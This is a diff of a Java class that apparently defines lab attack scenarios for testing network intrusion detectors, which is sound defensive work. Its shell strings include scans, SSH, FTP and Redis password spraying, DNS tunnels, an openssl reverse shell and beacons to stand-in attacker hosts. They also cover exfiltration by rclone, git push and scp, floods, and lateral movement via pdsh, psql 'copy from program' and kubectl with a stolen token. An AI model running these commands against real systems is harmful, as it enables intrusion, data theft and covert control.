@@ -1,15 +1,11 @@
 package dev.weir.standalone.lab;
 
-import static dev.weir.standalone.lab.AttackScripts.SINK;
-import static dev.weir.standalone.lab.AttackScripts.WORDS;
-import static dev.weir.standalone.lab.AttackScripts.dnsEnd;
-import static dev.weir.standalone.lab.AttackScripts.httpEnd;
 import static dev.weir.standalone.lab.AttackScripts.repeated;
 import static dev.weir.standalone.lab.AttackScripts.sshEnd;
-import static dev.weir.standalone.lab.AttackScripts.tlsEnd;
 import static dev.weir.standalone.lab.AttackScripts.typed;
 import static dev.weir.standalone.lab.LabHost.API;
 import static dev.weir.standalone.lab.LabHost.BACKUP;
+import static dev.weir.standalone.lab.LabHost.BASTION;
 import static dev.weir.standalone.lab.LabHost.BROKER;
 import static dev.weir.standalone.lab.LabHost.CACHE;
 import static dev.weir.standalone.lab.LabHost.CI;
@@ -21,27 +17,24 @@ import static dev.weir.standalone.lab.LabHost.OPS;
 import static dev.weir.standalone.lab.LabHost.ORDERS;
 import static dev.weir.standalone.lab.LabHost.SCANNER;
 import static dev.weir.standalone.lab.LabHost.SENSOR;
-import static dev.weir.standalone.lab.LabHost.USERA;
-import static dev.weir.standalone.lab.LabHost.USERC;
-import static dev.weir.standalone.lab.LabHost.WEB;
 import static dev.weir.standalone.lab.LabHost.WEBB;
 
 import dev.weir.standalone.lab.LabAttack.Listener;
 
 /**
- * The attacks that detectors are judged by. They go to {@link FormerJudgingAttacks}, and others take their place, once a
- * detector has been tuned on one.
+ * The attacks that detectors are judged by. Once a detector has been tuned on one, they become a catalogue such as
+ * {@link SecondJudgingAttacks}, and others take their place.
  */
 final class JudgingAttacks extends AttackCatalogue {
-    private static final String NEIGHBOUR = """
-            ping -n -c 1 -W 0.2 %1$s >/dev/null; mac=$(ip neigh show %1$s | sed 's/.*lladdr \\([^ ]*\\).*/\\1/')
+    /** Addresses in random order: some refuse, some drop, and some are pods. */
+    private static final String MIXED = """
+            targets() {
+              (for i in $(seq 30); do echo 10.60.7.$i; echo 10.60.8.$i; done
+               printf '%s\\n' $WEB $WEBB $API $ORDERS $DB $CACHE $BROKER) | shuf
+            }
             """;
 
-    /** A label of a name, of 48 characters that carry data. */
-    private static final String LABEL = "$(head -c 30 /dev/urandom | base32 -w 0)";
-
-    /** The fingerprint of every SSH server's key, which PuTTY's tools ask for. */
-    private static final String FINGERPRINT = "key=$(ssh-keygen -lf $FOLDER/host_key.pub | cut -d ' ' -f 2)\n";
+    private static final String GUESSES = "for i in $(seq %d); do echo Winter$i; done > $FOLDER/tries-$$\n";
 
     JudgingAttacks() {
         super(true);
@@ -49,274 +42,275 @@ final class JudgingAttacks extends AttackCatalogue {
 
     @Override
     void scans() {
-        add("scan-zmap", "zmap", ORDERS, 1, NEIGHBOUR.formatted("10.60.8.1") + """
-                zmap -q -i eth0 -G $mac -p 6379 -r 150 -c 1 -b /dev/null -o /dev/null 10.60.8.0/25
+        add("scan-pnscan-docker", "pnscan", WEBB, 1, """
+                for net in 10.60.8.0/26 10.60.7.0/27; do
+                  pnscan -t 400 -n 6 -W 'GET /version HTTP/1.0\\r\\n\\r\\n' $net 2375
+                done
                 """);
-        add("scan-nping-outside", "nping", SCANNER, 2, "nping --tcp-connect -p 1-120 -c 1 --rate 20 $ORDERS");
-        add("scan-mausezahn-fin", "mausezahn", NEW, 1, NEIGHBOUR.formatted("$API") + """
-                mausezahn eth0 -q -b $mac -A $NEW -B $API -t tcp "sp=40000,dp=20-110,flags=fin" -d 10m
+        add("scan-ssh-keyscan", "ssh-keyscan", JOB, 2, """
+                (for i in $(seq 50); do echo 10.60.7.$i; done; printf '%s\\n' $WEB $WEBB $API $ORDERS $DB $BASTION) \\
+                  > $FOLDER/hosts-$$
+                timeout 40 ssh-keyscan -4 -T 1 -t ed25519 -f $FOLDER/hosts-$$
                 """);
-        add("scan-nc-openbsd", "nc.openbsd", WEBB, 1, "nc.openbsd -n -z -w 1 $DB 1-200");
-        add(
-                "scan-nc-traditional-slow",
-                "nc.traditional",
-                OPS,
-                600,
-                "nc.traditional -n -z -r -i 1 -w 1 $BROKER 8000-8047");
-        add("scan-busybox-horizontal", "busybox", CI, 10, """
-                for i in $(seq 64); do timeout 0.4 busybox nc 10.60.8.$i 6443 </dev/null; done
+        add("scan-svmap-outside", "svmap", SCANNER, 2, """
+                HOME=$FOLDER timeout 40 svmap -t 0.05 10.60.8.0/26 10.60.7.0/28 10.60.1.11 10.60.1.12
                 """);
-        add("scan-ike", "ike-scan", API, 1, "ike-scan --nodns -r 1 -i 50 10.60.7.0/26");
-        add("scan-ping-day", "ping", WEB, 900, """
-                for i in $(seq 2 51); do ping -n -q -c 1 -W 0.2 10.60.8.$i; sleep 0.6; done
+        add("scan-redis-cli", "redis-cli", NEW, 5, MIXED + """
+                for h in $(targets); do timeout 0.3 redis-cli -h $h info; sleep 0.05; done
                 """);
-        add("scan-oping-outside", "oping", EVILB, 5, "oping -c 2 -w 0.5 10.60.8.{1..50} $WEB $WEBB $API $DB");
+        add("scan-nmap-kubelet-slow", "nmap", ORDERS, 60, """
+                nmap -n -Pn -sT --max-retries 0 --max-hostgroup 1 --scan-delay 300ms \\
+                  -p 2375,2379,2380,4194,6666,8001,8443,10250,10255,10256 $WEB $WEBB $API $DB $CACHE $BACKUP
+                """);
+        add("scan-dmitry", "dmitry", OPS, 1, "cd $FOLDER && timeout 40 dmitry -pb -t 1 $BACKUP");
+        add("scan-openssl-day", "openssl", SENSOR, 900, """
+                for end in $(for i in $(seq 41); do echo 10.60.7.$i:8443; done
+                    printf '%s\\n' $WEB:443 $WEBB:443 $API:6443 $KAPI:6443 $CACHE:443 $DB:443); do
+                  timeout 0.4 openssl s_client -connect $end </dev/null; sleep 0.4
+                done
+                """);
     }
 
     @Override
     void webScans() {
-        add("http-recon-dirsearch", "dirsearch", SCANNER, 1, WORDS.formatted(300) + """
-                PATH=/usr/bin:/bin HOME=$FOLDER timeout 45 \\
-                  dirsearch -q -t 4 -e php -w $FOLDER/words-$$ -o $FOLDER/found-$$ -u http://$API:8080/
+        add("http-recon-nmap-enum", "nmap", JOB, 1, """
+                timeout 45 nmap -n -Pn -p 8080 --script http-enum --script-args http.pipeline=1 $API
                 """);
-        add("http-recon-sqlmap", "sqlmap", JOB, 2, """
-                timeout 45 sqlmap --batch --level=2 --output-dir=$FOLDER/sqlmap-$$ -u "http://$WEBB/items/3?sort=1"
+        add("http-recon-ffuf-vhost", "ffuf", CI, 1, AttackScripts.WORDS.formatted(300) + """
+                timeout 45 ffuf -s -t 6 -p 0.1 -u http://$WEB/ -H 'Host: FUZZ.shop.example' -w $FOLDER/words-$$
                 """);
-        add("http-recon-aria2", "aria2c", CI, 1, WORDS.formatted(250) + """
-                sed "s#.*#http://$WEB:8080/&.zip#" $FOLDER/words-$$ > $FOLDER/urls-$$
-                timeout 45 aria2c -q --no-conf --dry-run -j 2 -m 1 -i $FOLDER/urls-$$
-                """);
-        add("http-recon-lynx-slow", "lynx", USERA, 30, """
-                for i in $(seq 100); do lynx -dump http://$WEB/old-$i/index.php >/dev/null; sleep 0.3; done
+        add("http-recon-httrack-slow", "httrack", EVILB, 20, """
+                for i in $(seq 60); do echo http://$WEBB/.hidden/$((i * 7))/setup.php; done > $FOLDER/urls-$$
+                timeout -k 1 35 httrack -q -O $FOLDER/mirror-$$ -%L $FOLDER/urls-$$ -c1 -%c4 -s0 -R0 -r2
                 """);
     }
 
     @Override
     void logins() {
-        add("bruteforce-plink-ssh", "plink", EVILA, 2, FINGERPRINT + """
-                for i in $(seq 60); do timeout 5 plink -batch -ssh -hostkey $key -pw guess$i root@$WEBB true; done
+        add(
+                "bruteforce-medusa-ftp",
+                "medusa",
+                JOB,
+                2,
+                GUESSES.formatted(45) + "timeout 50 medusa -h $BROKER -u backup -P $FOLDER/tries-$$ -M ftp -t 6",
+                new Listener(BROKER, """
+                        mkdir -p $FOLDER/empty
+                        printf '%s\\n' listen=YES listen_ipv6=NO local_enable=YES anonymous_enable=NO pam_service_name=vsftpd \\
+                          secure_chroot_dir=$FOLDER/empty listen_address=$BROKER seccomp_sandbox=NO background=NO \\
+                          > $FOLDER/guarded-ftp.conf
+                        exec vsftpd $FOLDER/guarded-ftp.conf
+                        """));
+        add("bruteforce-hydra-ssh-spray", "hydra", SCANNER, 10, """
+                printf '%s\\n' $BASTION $API $ORDERS $WEBB > $FOLDER/hosts-$$
+                printf '%s\\n' root admin deploy ubuntu git jenkins postgres www-data backup oracle test ec2-user > $FOLDER/users-$$
+                timeout 50 hydra -q -t 1 -T 4 -L $FOLDER/users-$$ -p Winter2026 -M $FOLDER/hosts-$$ ssh
                 """);
-        add("bruteforce-dbclient-ssh-slow", "dbclient", CI, 30, """
-                for i in $(seq 45); do
-                  DROPBEAR_PASSWORD=guess$i timeout 5 dbclient -y -y root@$BASTION true </dev/null; sleep 0.4
+        add(
+                "bruteforce-rsync",
+                "rsync",
+                NEW,
+                5,
+                "for i in $(seq 80); do RSYNC_PASSWORD=pass$i rsync --port=8730 rsync://backup@$BACKUP/safe/; sleep 0.1; done",
+                new Listener(BACKUP, """
+                        echo backup:none-guesses-it > $FOLDER/rsync.secrets && chmod 600 $FOLDER/rsync.secrets
+                        printf '%s\\n' 'reverse lookup = no' '[safe]' "path = $FOLDER/vault" 'auth users = backup' \\
+                          "secrets file = $FOLDER/rsync.secrets" 'use chroot = false' > $FOLDER/guarded-rsync.conf
+                        exec rsync --daemon --no-detach --config=$FOLDER/guarded-rsync.conf --address=$BACKUP --port=8730
+                        """));
+        add("bruteforce-git-spray-slow", "git", SENSOR, 40, """
+                for i in $(seq 20); do
+                  for h in $WEB $WEBB $API; do
+                    GIT_TERMINAL_PROMPT=0 HOME=$FOLDER git ls-remote http://deploy:release$i@$h/admin/shop.git; sleep 0.3
+                  done
                 done
                 """);
         add(
-                "bruteforce-redis-auth",
-                "redis-cli",
-                SENSOR,
-                2,
-                "for i in $(seq 120); do redis-cli -h $CACHE --user backup --pass key$i --no-auth-warning ping; sleep 0.1; done",
-                new Listener(
-                        CACHE, "redis-cli -h $CACHE acl setuser backup on '>none-guesses-it' '~*' +@all; sleep 60"));
-        add("bruteforce-createuser-postgres", "createuser", WEBB, 20, """
-                for i in $(seq 60); do PGPASSWORD=pass$i createuser -w -h $DB -U replica x$i; sleep 0.3; done
-                """);
-        add(
-                "bruteforce-mosquitto",
-                "mosquitto_pub",
-                EVILB,
+                "bruteforce-hydra-redis",
+                "hydra",
+                ORDERS,
                 1,
-                "for i in $(seq 150); do mosquitto_pub -h $BROKER -p 1884 -u admin -P pass$i -t x -m x; done",
-                new Listener(BROKER, """
-                        mosquitto_passwd -b -c $FOLDER/broker.pw admin none-guesses-it
-                        printf 'listener 1884 %s\\nallow_anonymous false\\npassword_file %s/broker.pw\\nuser root\\n' \\
-                          $BROKER $FOLDER > $FOLDER/guarded.conf
-                        exec mosquitto -c $FOLDER/guarded.conf
-                        """));
-        add("bruteforce-busybox-http", "busybox", SENSOR, 10, """
-                for i in $(seq 90); do busybox wget -q -O /dev/null http://admin:guess$i@$WEBB/admin/; sleep 0.25; done
-                """);
+                GUESSES.formatted(400) + "timeout 50 hydra -q -P $FOLDER/tries-$$ redis://$CACHE:6380",
+                new Listener(
+                        CACHE,
+                        "exec redis-server --bind $CACHE --port 6380 --requirepass none-guesses-it --save '' --dir $FOLDER"));
     }
 
     @Override
     void tunnels() {
         add(
-                "dns-tunnel-kdig",
-                "kdig",
-                JOB,
-                20,
-                repeated(110, "kdig +short +retry=0 +timeout=1 @$DNS A " + LABEL + ".$i.tunnel.example", 100, 50),
-                dnsEnd(EVILA, "tunnel.example", "10.66.66.66"));
-        add(
-                "dns-tunnel-drill-direct",
-                "drill",
-                WEBB,
-                10,
-                repeated(120, "drill @$EVILB " + LABEL + "." + LABEL + ".relay.example AAAA", 80, 20),
-                dnsEnd(EVILB, "relay.example", "fd66::66"));
-        add(
-                "dns-tunnel-busybox-slow",
-                "busybox",
-                API,
-                90,
-                repeated(70, "busybox nslookup -type=txt " + LABEL + ".c$i.tunnel.example $DNS", 450, 20),
-                dnsEnd(EVILA, "tunnel.example", "10.66.66.66"));
+                "dns-tunnel-adnshost-burst",
+                "adnshost",
+                NEW,
+                1,
+                """
+                head -c 12000 /dev/urandom | base32 -w 56 | tr -d = | sed 's/$/.f1.relay.example/' \\
+                  | timeout 40 adnshost --config "nameserver $DNS" -a -Vq -ta -f
+                """,
+                AttackScripts.dnsEnd(EVILB, "relay.example", "10.66.66.66"));
+        add("dns-tunnel-iodine-null-direct", "iodine", BASTION, 20, """
+                timeout 28 iodine -f -r -T NULL -I 1 -P secret -d dnsn $EVILB relay.example & sleep 6
+                head -c 60000 /dev/urandom | timeout 18 ncat --send-only 10.97.0.1 9999
+                wait
+                """, new Listener(EVILB, """
+                        socat -u tcp-listen:9999,fork,reuseaddr open:/dev/null &
+                        exec iodined -f -c -P secret -d dnsm 10.97.0.1/24 relay.example
+                        """));
     }
 
     @Override
     void channels() {
         add(
-                "c2-nc-traditional-shell",
-                "nc.traditional",
-                ORDERS,
+                "c2-openssl-shell",
+                "openssl",
+                WEBB,
                 25,
-                "timeout 45 nc.traditional -n $EVILB 53 -e /bin/sh",
-                new Listener(EVILB, typed(20, "ps; ls /etc") + " | nc.traditional -n -l -s $EVILB -p 53 -q 1"));
-        add(
-                "c2-httptunnel-shell",
-                "htc",
-                JOB,
-                20,
                 """
-                htc -w -F 2222 $EVILA:80 & sleep 1
-                timeout 45 socat tcp:127.0.0.1:2222 exec:/bin/sh
-                kill %1
+                mkfifo $FOLDER/pipe-$$
+                timeout 45 sh -c "sh -i <$FOLDER/pipe-$$ 2>&1 | openssl s_client -quiet -connect $EVILB:443 >$FOLDER/pipe-$$"
                 """,
                 new Listener(
-                        EVILA,
-                        "hts -w -F 127.0.0.1:7777 80 &\n" + typed(20, "id; cat /proc/meminfo")
-                                + " | ncat -l 127.0.0.1 7777; kill %1"));
+                        EVILB,
+                        typed(20, "id; ls -l /")
+                                + " | openssl s_server -quiet -naccept 1 -accept $EVILB:443 -cert $FOLDER/tls.crt -key"
+                                + " $FOLDER/tls.key"));
         add(
-                "c2-busybox-beacon-even",
-                "busybox",
-                ORDERS,
+                "c2-git-beacon",
+                "git",
+                JOB,
                 60,
-                repeated(70, "busybox wget -q -O /dev/null http://$EVILB:8080/in", 600, 0),
-                httpEnd(EVILB, 8_080));
+                repeated(60, "HOME=$FOLDER timeout 2 git ls-remote git://$EVILB/tasks.git", 450, 30),
+                new Listener(EVILB, """
+                        git init -q --bare $FOLDER/git/tasks.git
+                        HOME=$FOLDER git config --global safe.directory '*'
+                        HOME=$FOLDER exec git daemon --base-path=$FOLDER/git --export-all --reuseaddr --listen=$EVILB
+                        """));
         add(
-                "c2-gnutls-beacon",
-                "gnutls-cli",
-                WEB,
-                60,
-                repeated(60, "echo $RANDOM | timeout 1 gnutls-cli --insecure -p 443 $EVILA", 500, 20),
-                tlsEnd(EVILA, 443));
-        add(
-                "c2-lftp-jitter",
-                "lftp",
-                CI,
+                "c2-dead-ssh",
+                "ssh",
+                BASTION,
                 60,
                 repeated(
                         60,
-                        "lftp -c 'set ssl:verify-certificate no; set net:max-retries 1; set net:timeout 2; cat"
-                                + " https://'$EVILB':8443/c'",
-                        600,
-                        50),
-                new Listener(
-                        EVILB,
-                        "exec ncat --ssl --ssl-cert $FOLDER/tls.crt --ssl-key $FOLDER/tls.key -lk $EVILB 8443 -c"
-                                + " 'read line; printf \"HTTP/1.0 200 OK\\r\\nContent-Length: 4\\r\\n\\r\\nnone\"'"));
+                        "timeout 1 ssh $SSH -o ConnectTimeout=1 -N -R 2222:127.0.0.1:22 -p 443 root@$EVILA",
+                        420,
+                        15));
         add(
-                "c2-inside-redis",
-                "redis-cli",
-                WEBB,
-                60,
-                repeated(70, "redis-cli -h $NEW lpop tasks", 550, 30),
-                new Listener(NEW, "exec redis-server --bind $NEW --protected-mode no --save '' --dir $FOLDER"));
-        add(
-                "c2-dead-mosquitto",
-                "mosquitto_pub",
-                SENSOR,
-                40,
-                repeated(90, "mosquitto_pub -h $EVILA -p 8883 -t c -m up", 400, 20));
-        add(
-                "c2-dead-nc-openbsd",
-                "nc.openbsd",
+                "c2-socat-udp",
+                "socat",
                 API,
                 60,
-                repeated(60, "timeout 0.3 nc.openbsd -n -z 10.60.8.99 8443", 400, 40));
-        add(
-                "c2-ptunnel-shell",
-                "ptunnel-ng",
-                WEBB,
-                30,
-                """
-                ptunnel-ng -p$EVILB -l2224 -r127.0.0.1 -R7779 & sleep 1
-                timeout 45 socat tcp:127.0.0.1:2224 exec:/bin/sh
-                kill %1
-                """,
+                repeated(
+                        60,
+                        "head -c $((60 + RANDOM % 80)) /dev/urandom | timeout 1 socat -t 0.1 - udp:$EVILB:443",
+                        420,
+                        40),
                 new Listener(
-                        EVILB,
-                        "ptunnel-ng -r127.0.0.1 -R7779 &\n" + typed(20, "id; ps ax")
-                                + " | ncat -l 127.0.0.1 7779; kill %1"));
-        add("c2-stunnel-lasting", "stunnel4", BACKUP, 60, """
-                printf 'foreground = yes\\npid =\\n[c]\\nclient = yes\\naccept = 127.0.0.1:2223\\nconnect = %s:443\\n' $EVILB \\
-                  > $FOLDER/stunnel-$$
-                stunnel4 $FOLDER/stunnel-$$ & sleep 1
-                (for i in $(seq 40); do echo report $RANDOM; sleep 1; done) | timeout 45 nc.openbsd -N 127.0.0.1 2223
-                kill %1
-                """, new Listener(EVILB, """
-                        printf 'foreground = yes\\npid =\\n[s]\\naccept = %s:443\\n' $EVILB > $FOLDER/end
-                        printf 'connect = 127.0.0.1:7778\\ncert = %s/tls.crt\\nkey = %s/tls.key\\n' $FOLDER $FOLDER >> $FOLDER/end
-                        socat tcp-listen:7778,bind=127.0.0.1,fork,reuseaddr exec:cat &
-                        exec stunnel4 $FOLDER/end
-                        """));
+                        EVILB, "exec socat -T 1 udp-recvfrom:443,fork,reuseaddr system:'head -c 40 /dev/urandom'"));
+        add(
+                "c2-curl-rotating",
+                "curl",
+                CI,
+                60,
+                """
+                ends=($EVILA $EVILB)
+                """
+                        + repeated(
+                                80,
+                                "curl -sk -m 2 -o /dev/null -H \"Cookie: s=$(head -c 90 /dev/urandom | base64 -w 0)\""
+                                        + " https://${ends[RANDOM % 2]}/api/items/$((RANDOM % 9 + 1))",
+                                400,
+                                40),
+                webEnd(EVILA),
+                webEnd(EVILB));
+    }
+
+    /** A web server with TLS that has the same pages as the shop's. */
+    private static Listener webEnd(LabHost host) {
+        return new Listener(host, """
+                cat > $FOLDER/end-%1$s.conf <<END
+                daemon off;
+                pid $FOLDER/end-%1$s.pid;
+                events {}
+                http {
+                  access_log off;
+                  server {
+                    listen $%2$s:443 ssl;
+                    ssl_certificate $FOLDER/tls.crt;
+                    ssl_certificate_key $FOLDER/tls.key;
+                    root $FOLDER/www;
+                  }
+                }
+                END
+                exec nginx -c $FOLDER/end-%1$s.conf -p $FOLDER
+                """.formatted(host.host(), host.name()));
     }
 
     @Override
     void transfers() {
-        add("exfil-busybox-ftp", "busybox", CI, 1, """
-                head -c 60000000 /dev/urandom > $FOLDER/archive-$$
-                busybox ftpput -u ftp -p x $EVILA in/archive $FOLDER/archive-$$
-                """, new Listener(EVILA, """
-                        mkdir -p $FOLDER/ftp/in $FOLDER/empty && chown ftp $FOLDER/ftp/in
-                        printf '%s\\n' listen=YES listen_ipv6=NO anonymous_enable=YES write_enable=YES anon_upload_enable=YES \\
-                          anon_root=$FOLDER/ftp secure_chroot_dir=$FOLDER/empty listen_address=$EVILA seccomp_sandbox=NO \\
-                          background=NO > $FOLDER/vsftpd.conf
-                        exec vsftpd $FOLDER/vsftpd.conf
+        add("exfil-rclone-webdav", "rclone", BACKUP, 1, """
+                mkdir $FOLDER/loot-$$ && for i in $(seq 15); do head -c 4000000 /dev/urandom > $FOLDER/loot-$$/$i; done
+                timeout 45 rclone --config /dev/null --transfers 3 copy --webdav-url http://$EVILB:8080 $FOLDER/loot-$$ :webdav:in
+                rm -r $FOLDER/loot-$$
+                """, new Listener(EVILB, """
+                        mkdir -p $FOLDER/dav
+                        exec rclone --config /dev/null serve webdav --addr $EVILB:8080 $FOLDER/dav
                         """));
-        add(
-                "exfil-nc-openbsd-drip",
-                "nc.openbsd",
-                WEB,
-                90,
-                repeated(45, "head -c 1500000 /dev/urandom | timeout 2 nc.openbsd -n -N $EVILA 443", 600, 20),
-                new Listener(EVILA, SINK.formatted(443)));
-        add(
-                "exfil-pscp-drip",
-                "pscp",
-                ORDERS,
-                100,
-                FINGERPRINT + """
-                puttygen $FOLDER/key -O private -o $FOLDER/ppk-$$
-                head -c 1500000 /dev/urandom > $FOLDER/part-$$
-                """
-                        + repeated(
-                                40,
-                                "timeout 4 pscp -q -batch -hostkey $key -i $FOLDER/ppk-$$ $FOLDER/part-$$"
-                                        + " root@$EVILB:$FOLDER/taken",
-                                500,
-                                30),
-                sshEnd(EVILB));
-        add("exfil-pgdumpall", "pg_dumpall", SENSOR, 1, """
-                for i in 1 2 3; do pg_dumpall -h $DB -U postgres >/dev/null; done
-                """);
-        add("exfil-nping-icmp", "nping", JOB, 1, "nping -q --icmp --data-length 1400 -c 12000 --rate 1000 $EVILB");
+        add("exfil-git-push", "git", CI, 1, """
+                export HOME=$FOLDER/home-$$ GIT_AUTHOR_NAME=x GIT_AUTHOR_EMAIL=x GIT_COMMITTER_NAME=x GIT_COMMITTER_EMAIL=x
+                mkdir $HOME && cd $HOME && git init -q . && head -c 50000000 /dev/urandom > loot
+                git add loot && git commit -q -m x && timeout 40 git push -q git://$EVILA/in.git HEAD:refs/heads/x
+                rm -rf $HOME
+                """, new Listener(EVILA, """
+                        git init -q --bare $FOLDER/pushed/in.git
+                        HOME=$FOLDER git config --global safe.directory '*'
+                        HOME=$FOLDER exec git daemon --base-path=$FOLDER/pushed --export-all --enable=receive-pack --reuseaddr --listen=$EVILA
+                        """));
+        add("exfil-scp-throttled", "scp", WEBB, 60, """
+                head -c 50000000 /dev/urandom > $FOLDER/loot-$$
+                timeout 50 scp $SSH -l 16000 $FOLDER/loot-$$ root@$EVILA:/dev/null
+                rm $FOLDER/loot-$$
+                """, sshEnd(EVILA));
     }
 
     @Override
     void floods() {
-        add("ddos-h2load", "h2load", USERC, 1, "h2load --h1 -D 6 --rps 10 -c 100 -t 1 http://$WEBB/index.html");
-        add("ddos-mausezahn-syn", "mausezahn", EVILA, 1, NEIGHBOUR.formatted("$WEBB") + """
-                mausezahn eth0 -q -b $mac -A $EVILA -B $WEBB -t tcp "sp=2000-9999,dp=443,flags=syn" -d 500
+        add("ddos-dnsperf", "dnsperf", NEW, 1, """
+                for i in $(seq 6000); do printf '%x.nowhere.example A\\n' $((i * 7919)); done > $FOLDER/names-$$
+                timeout 20 dnsperf -s $DNS -d $FOLDER/names-$$ -n 1 -c 20 -Q 1000
                 """);
-        add("ddos-iperf-udp", "iperf", NEW, 1, "timeout 20 iperf -u -c $BROKER -p 5683 -b 20M -l 1000 -t 6");
+        add(
+                "ddos-redis-benchmark",
+                "redis-benchmark",
+                JOB,
+                1,
+                "timeout 20 redis-benchmark -h $CACHE -c 150 -n 4000 -k 0 -q -t get");
     }
 
     @Override
     void lateral() {
-        add("lateral-pssh", "parallel-ssh", JOB, 20, """
-                parallel-ssh -p 2 -t 9 -x "$SSH" -H "root@$API root@$ORDERS root@$WEBB root@$BASTION" 'id; sleep 4; uname -a'
-                """);
-        add("lateral-clush", "clush", SENSOR, 20, """
-                for h in $WEBB $API $BASTION $ORDERS; do
-                  clush -l root -o "$SSH" -w $h --copy $FOLDER/tls.crt --dest /dev/null
-                  clush -l root -o "$SSH" -w $h 'for i in 1 2 3; do ps ax; sleep 1; done'
+        add("lateral-pdsh", "pdsh", CI, 10, """
+                export PDSH_SSH_ARGS_APPEND="$SSH"
+                for command in 'uname -a; sleep 2' 'ps ax; sleep 1' 'cat /etc/passwd; sleep 2'; do
+                  timeout 14 pdsh -R ssh -f 4 -t 1 -l root -w 10.60.7.[1-8],$API,$ORDERS,$WEBB,$BASTION "$command"
                 done
                 """);
-        add("lateral-pod-to-apiserver-httpie", "http", CI, 10, """
-                for kind in secrets pods nodes configmaps services endpoints events namespaces serviceaccounts; do
-                  http --ignore-stdin --verify=no --timeout 2 https://$KAPI:6443/api/v1/$kind; sleep 0.5
+        add("lateral-psql-program", "psql", WEBB, 20, """
+                for what in id 'ls /' 'cat /etc/hosts' 'ps ax'; do
+                  psql -q -h $DB -U postgres -c "create temp table t(x text); copy t from program '$what'; select * from t" postgres
+                  sleep 1
+                done
+                for what in 'info server' 'config get dir' 'client list' 'module list'; do redis-cli -h $CACHE $what; sleep 1; done
+                for h in $ORDERS $API; do timeout 9 ssh $SSH root@$h 'for i in 1 2 3; do id; sleep 1; done'; done
+                """);
+        add("lateral-pod-to-apiserver-kubectl", "kubectl", JOB, 10, """
+                export HOME=$FOLDER/kube-$$
+                kube() {
+                  timeout 8 kubectl --server=https://$KAPI:6443 --insecure-skip-tls-verify --token=stolen --request-timeout=2s "$@"
+                  sleep 1
+                }
+                kube auth can-i --list
+                for what in secrets pods nodes serviceaccounts configmaps clusterrolebindings services; do
+                  kube get $what -A
                 done
                 """);
     }
